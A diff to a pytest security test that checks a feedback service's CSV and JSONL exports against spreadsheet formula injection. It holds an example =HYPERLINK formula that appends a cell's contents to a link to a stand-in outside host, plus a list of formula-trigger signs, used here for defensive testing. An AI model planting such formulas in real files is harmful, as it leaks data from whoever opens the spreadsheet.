@@ -5,16 +5,16 @@ from __future__ import annotations
 import csv
 import io
 import json
-from itertools import product
+from collections.abc import Iterator, Mapping
 
 import pytest
+import pytest_asyncio
 
 from feedback.writing import cell
 from tests.abuse import sample_company
 
-ingested, parts, enter = sample_company.ingested, sample_company.parts, sample_company.enter
+parts, enter = sample_company.parts, sample_company.enter
 Enter = sample_company.Enter
-
 ALICE, FATIMA = "alice@cryodyne.example", "fatima@cryodyne.example"
 LINK = '=HYPERLINK("http://other.example/?d="&A1,"look")'
 PAYLOADS = (
@@ -34,61 +34,86 @@ PAYLOADS = (
 RUN = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 
 
-async def exported(enter: Enter, payload: str, dataset: str, form: str) -> tuple[str, str]:
-    """Ask and comment with the payload, and export; gives the file and its kind."""
-    alice = enter(ALICE)
-    turn = (
-        await alice.post(
-            "/api/v1/assistants/medical-information/ask", json={"question": payload + " Qavoretin"}
+Asked = Mapping[str, str]
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def asked(enter: Enter) -> Asked:
+    """Ask and comment with every payload; gives the turn of each."""
+    alice, turns = enter(ALICE), {}
+    for payload in PAYLOADS:
+        turn = (
+            await alice.post(
+                "/api/v1/assistants/medical-information/ask",
+                json={"question": payload + " Qavoretin"},
+            )
+        ).json()
+        reply = await alice.put(
+            f"/api/v1/turns/{turn['turn_id']}/reaction",
+            json={
+                "emoji": "🙁",
+                "reasons": ["Wrong"],
+                "comment": payload,
+                "suggested_answer": payload,
+            },
         )
-    ).json()
-    reply = await alice.put(
-        f"/api/v1/turns/{turn['turn_id']}/reaction",
-        json={
-            "emoji": "🙁",
-            "reasons": ["Wrong"],
-            "comment": payload,
-            "suggested_answer": payload,
-        },
-    )
-    assert reply.status_code == 200
+        assert reply.status_code == 200
+        turns[payload] = turn["turn_id"]
+    return turns
+
+
+async def exported(enter: Enter, dataset: str, form: str) -> tuple[str, str]:
+    """Export it; gives the file and its kind."""
     file = await enter(FATIMA).get(f"/api/v1/export/{dataset}", params={"format": form})
     assert "attachment" in file.headers["content-disposition"]
     return file.content.decode("utf-8-sig"), file.headers["content-type"]
 
 
+def as_written(text: str) -> Iterator[str]:
+    """Each row of a CSV file, as it stands there."""
+    lines = list(io.StringIO(text, newline=""))
+    reader = csv.reader(lines)
+    begins = 0
+    for _ in reader:
+        yield "".join(lines[begins : reader.line_num])
+        begins = reader.line_num
+
+
+@pytest.mark.asyncio(loop_scope="module")
 @pytest.mark.parametrize(
-    ("dataset", "payload"),
-    [
-        *product(("turns", "reactions", "transcripts"), PAYLOADS),
-        ("cases-ragas", LINK),
-        ("cases-deepeval", f"fine;{LINK}"),
-    ],
+    "dataset", ["turns", "reactions", "transcripts", "cases-ragas", "cases-deepeval"]
 )
 async def test_s13_no_cell_of_a_spreadsheet_begins_with_what_it_would_run(
-    enter: Enter, dataset: str, payload: str
+    enter: Enter, asked: Asked, dataset: str
 ) -> None:
-    text, kind = await exported(enter, payload, dataset, "csv")
+    text, kind = await exported(enter, dataset, "csv")
 
     assert kind.startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(text, newline="")))
-    cells = [value for row in rows[1:] for value in row]
-    assert [value for value in cells if payload.strip()[-12:] in value]
-    assert [value for value in cells if value.startswith(RUN)] == []
-    # A spreadsheet of another language cuts the same file at other signs, amid texts.
-    for separator in ";\t":
-        cut = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
-        assert [value for row in cut for value in row if value.startswith("=")] == []
+    head, *rows = as_written(text)
+    assert len(rows) >= len(PAYLOADS)
+    for payload, turn in asked.items():
+        # Each alone, since a quotation mark of one may hide another from whoever cuts elsewhere.
+        (row,) = [row for row in rows if turn in row]
+        cells = next(csv.reader(io.StringIO(row, newline="")))
+        assert [value for value in cells if payload.strip()[-12:] in value]
+        assert [value for value in cells if value.startswith(RUN)] == []
+        # A spreadsheet of another language cuts the same file at other signs, amid texts.
+        for separator in ";\t":
+            cut = csv.reader(io.StringIO(head + row, newline=""), delimiter=separator)
+            assert [value for row in cut for value in row if value.startswith("=")] == []
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.asyncio(loop_scope="module")
 async def test_s13_json_lines_hold_what_was_written_and_nothing_else(
-    enter: Enter, payload: str
+    enter: Enter, asked: Asked
 ) -> None:
-    text, _ = await exported(enter, payload, "reactions", "jsonl")
+    text, _ = await exported(enter, "reactions", "jsonl")
 
-    (row,) = [json.loads(line) for line in text.splitlines()]
-    assert row["comment"] == payload.strip()
+    rows = [json.loads(line) for line in text.splitlines()]
+    assert {row["turn_id"]: row["comment"] for row in rows} == {
+        turn: payload.strip() for payload, turn in asked.items()
+    }
+    assert len(rows) == len(PAYLOADS)
 
 
 @pytest.mark.parametrize("sign", RUN)
